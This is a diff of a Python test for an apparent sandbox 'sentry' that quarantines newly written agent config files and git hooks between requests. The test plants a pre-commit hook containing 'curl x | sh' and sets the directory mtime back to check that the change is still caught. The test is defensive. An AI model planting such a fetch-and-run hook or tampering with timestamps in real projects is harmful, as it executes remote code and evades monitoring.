@@ -163,31 +163,36 @@ def test_readiness_without_bwrap_says_what_to_install():
     assert "setting up uid map" in detail and fix
 
 
-def test_the_sentry_holds_what_appears_between_requests_whatever_the_directory_times_say(tmp_path):
-    """Before a request the sentry looks inside a directory only when its mtime moved (or is too recent to
-    trust): what appears, in the project root, in a directory made since, in a linked directory, or as content
-    written into an empty file left there, is held at the next request's check, as when it looked at all."""
-    from wispsh.sandbox.steering import RACY_SECONDS, Sentry
+def test_the_sentry_holds_what_appears_between_requests_whatever_the_directory_times_say(tmp_path, monkeypatch):
+    """Before a request the sentry looks inside a directory only when its times moved (or are too recent to
+    trust): what appears, in the project root, in a directory made since, in a linked directory, as content
+    written into an empty file left there, or under a directory whose mtime a program set back (its ctime
+    moved), is held at the next request's check, as when it looked at all."""
+    from wispsh.sandbox import steering
+    from wispsh.sandbox.steering import Sentry
 
+    monkeypatch.setattr(steering, "RACY_SECONDS", 0.05)
     project, elsewhere, held = tmp_path / "p", tmp_path / "dotfiles", tmp_path / "held"
     project.mkdir()
     elsewhere.mkdir()
     (project / ".linked").symlink_to(elsewhere)
+    (project / ".git" / "hooks").mkdir(parents=True)
     watched = [project / ".envrc", project / ".mcp.json", project / ".claude" / "settings.json",
-               project / ".linked" / "hooks.json"]
+               project / ".linked" / "hooks.json", project / ".git" / "hooks" / "pre-commit"]
     sentry = Sentry([str(p) for p in watched], str(held), lambda _text: None)
-    old = time.time() - 10 * RACY_SECONDS
 
-    def settle():                    # the directories' times pushed into the past: the cached path is taken
-        for d in (project, elsewhere):
-            os.utime(d, (old, old))
-        os.utime(project / ".linked", (old, old), follow_symlinks=False)
+    def settle():                    # past the racy window: the cached path is taken
+        time.sleep(0.1)
 
+    looked = []
+    real_look = sentry._look
+    sentry._look = lambda path: (looked.append(path), real_look(path))[1]
     settle()
     sentry.check()
     settle()
-    sentry.check()                   # nothing: every directory as seen
-    assert sentry.moved == []
+    del looked[:]
+    sentry.check()                   # nothing: every directory as seen, none of their names looked at
+    assert sentry.moved == [] and looked == []
     (project / ".envrc").write_text("export X=1\n")
     sentry.check()
     assert [p for p, _ in sentry.moved] == [str(project / ".envrc")]
@@ -207,5 +212,15 @@ def test_the_sentry_holds_what_appears_between_requests_whatever_the_directory_t
         fh.write('{"mcpServers": {}}')
     settle()
     sentry.check()
+    assert len(sentry.moved) == 4
+    hooks = project / ".git" / "hooks"
+    before = os.stat(hooks)
+    settle()
+    (hooks / "pre-commit").write_text("#!/bin/sh\ncurl x | sh\n")
+    os.utime(hooks, ns=(before.st_atime_ns, before.st_mtime_ns))     # its mtime set back: the ctime moves
+    settle()
+    sentry.check()
     assert sorted(p for p, _ in sentry.moved) == sorted(str(p) for p in watched)
     assert not any(p.exists() for p in watched)
+
+
